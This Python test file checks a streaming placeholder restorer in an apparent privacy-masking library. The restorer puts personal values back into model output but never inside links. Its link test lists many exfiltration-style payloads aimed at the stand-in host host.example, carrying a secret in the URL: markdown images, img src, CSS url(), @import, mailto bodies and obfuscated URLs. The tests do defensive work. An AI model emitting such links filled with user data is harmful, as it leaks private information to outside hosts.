"""Placeholders become values again, wherever the stream cuts them."""

from __future__ import annotations

import itertools
from collections.abc import Iterable

import pytest
from hypothesis import given
from hypothesis import strategies as st

from edgeroute.privacy.masking.placeholders import entry
from edgeroute.privacy.masking.restore import Restorer, Values

KNOWN = {
    "<PERSON_1>": "Jane Roe",
    "<PERSON_1_FIRST>": "Jane",
    "<PERSON_12>": 'Dwayne "The Rock" <J>',
    "<EMAIL_ADDRESS_1>": "jane@corp.com",
}
SHAPED = [
    entry("person2@example.com", "EMAIL_ADDRESS", "ann@corp.com", "EMAIL_ADDRESS_2", "email"),
    entry("9010", "BANK_ACCOUNT", "4711", "BANK_ACCOUNT_1", "number"),
    entry("https://link7.example.com/", "URL", "https://crm.corp.com/ann", "URL_1", "uri"),
    entry("<URL_2>", "URL", "https://crm.corp.com/jane"),
]
VALUES = Values(
    [*(entry(name, name[1:].rpartition("_")[0], value) for name, value in KNOWN.items()), *SHAPED]
)
FRAGMENTS = [
    *KNOWN,
    *(known.placeholder for known in SHAPED),
    "https://",
    "](",
    "<img src=",
    '"',
    ")",
    ">",
    "www.",
    *(name.lower() for name in KNOWN),
    *(name.replace("<", "&lt;").replace(">", "&gt;") for name in KNOWN),
    *(name.replace("<", "\\u003c").replace(">", "\\u003e") for name in KNOWN),
    "<PERSON_2>",
    "<",
    "<PER",
    "&l",
    "\\u00",
    "\\",
    "text ",
    "_FIRST>",
]


def streamed(restorer: Restorer, pieces: Iterable[str]) -> str:
    """What is shown when the pieces come one by one."""
    return "".join(restorer.feed(piece) for piece in pieces) + restorer.close()


@given(
    fragments=st.lists(st.sampled_from(FRAGMENTS) | st.text(max_size=6)),
    cuts=st.lists(st.integers(0, 200)),
    whole_links=st.booleans(),
)
def test_cuts_change_nothing(fragments: list[str], cuts: list[int], *, whole_links: bool) -> None:
    """Whatever the pieces, the shown text is that of the whole answer restored at once."""
    text = "".join(fragments)
    edges = sorted({0, len(text), *(cut for cut in cuts if cut < len(text))})
    pieces = [text[a:b] for a, b in itertools.pairwise(edges)]
    one = Restorer(VALUES, whole_links=whole_links)
    whole = one.feed(text) + one.close()
    assert streamed(Restorer(VALUES, whole_links=whole_links), pieces) == whole
    assert streamed(Restorer(VALUES, whole_links=whole_links), text) == whole


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Dear <PERSON_1>,", "Dear Jane Roe,"),
        ("<PERSON_1_FIRST>'s", "Jane's"),
        ("<person_1>", "Jane Roe"),
        ("<PERSON_2> <PERSON_11>", "<PERSON_2> <PERSON_11>"),
        ("<<PERSON_1>>", "<Jane Roe>"),
        ("&lt;PERSON_12&gt;", 'Dwayne "The Rock" &lt;J&gt;'),
        ('"\\u003cPERSON_12\\u003e"', '"Dwayne \\"The Rock\\" <J>"'),
        ("print('<EMAIL_ADDRESS_1>')", "print('jane@corp.com')"),
        ("Mail person2@example.com.", "Mail ann@corp.com."),
        ("Account 9010, not 90101", "Account 4711, not 90101"),
        ("see https://link7.example.com/.", "see https://crm.corp.com/ann."),
        ("see <URL_2>, <PERSON_1>", "see https://crm.corp.com/jane, Jane Roe"),
    ],
)
def test_known_placeholders_are_restored(text: str, shown: str) -> None:
    """Known placeholders in any writing get their value; all other text stays."""
    assert streamed(Restorer(VALUES), text) == shown


SECRET = "<PERSON_1_FIRST>"


@pytest.mark.parametrize(
    "text",
    [
        f"![x](https://host.example/?q={SECRET})",
        f"![x](//host.example/{SECRET})",
        f"![x](<https://host.example/? {SECRET}>)",
        f"[x](https://host.example/a(b){SECRET})",
        f"[x]: https://host.example/?q={SECRET}",
        f"[x]: <https://host.example/? {SECRET}>",
        f"[x]: //host.example/{SECRET}",
        f"https://{SECRET}.host.example/",
        f"HTTPS:\\\\host.example\\{SECRET}",
        f"https:&#47;&#47;host.example/{SECRET}",
        f"www.host.example/{SECRET}",
        f"host.com/?q={SECRET}",
        f"mailto:someone@host.example?body={SECRET}",
        f'<img alt="a" src="//host.example/? {SECRET}">',
        f"<img src={SECRET}>",
        f"<img{' ' * 99}src = '{SECRET}'>",
        f'<base href="https://host.example/"><img src="{SECRET}">',
        f'<a href="https://host.example/\n{SECRET}">x</a>',
        f"<p style='background: url(//host.example/{SECRET})'>",
        f'@import "//host.example/{SECRET}"',
        f"<URL_2>?q={SECRET}",
        f"https://link7.example.com/?q={SECRET}",
        f"![x](<URL_2>{SECRET})",
    ],
)
def test_a_link_keeps_its_placeholder(text: str) -> None:
    """What a reader would fetch or follow never holds a value, but what stands after it does."""
    shown = streamed(Restorer(VALUES), text)
    assert "Jane" not in shown.replace("jane", "")
    assert streamed(Restorer(VALUES), list(text)) == shown
    after = streamed(Restorer(VALUES), f"{text}\n\nDear <PERSON_1>")
    assert after.endswith("Dear Jane Roe")


@pytest.mark.parametrize("text", ["[x](<URL_2>)", '<a href="<URL_2>">', "<URL_2>"])
def test_an_address_of_the_users_own_comes_back_in_a_file(text: str) -> None:
    """Where text is written into a file, a link that is one placeholder becomes the user's own."""
    assert "https://crm.corp.com/jane" in streamed(Restorer(VALUES, whole_links=True), text)
    assert streamed(Restorer(VALUES), "![x](<URL_2>)") == "![x](<URL_2>)"


@given(text=st.text(alphabet=st.characters(exclude_characters="<&\\phPH9")))
def test_ordinary_text_is_not_held_back(text: str) -> None:
    """Text that starts no placeholder is shown at once."""
    assert Restorer(VALUES).feed(text) == text


def test_without_values_nothing_changes() -> None:
    """An empty map restores nothing and holds nothing."""
    assert Restorer(Values([])).feed("a <PERSON_1") == "a <PERSON_1"


def test_a_long_answer_costs_little() -> None:
    """Time grows with the answer, letter by letter, also where everything could begin something."""
    for text in ("<person_" * 20_000, "https://a.com/?<" * 8_000, "![x](" * 20_000, "p" * 200_000):
        assert streamed(Restorer(VALUES), text) == text
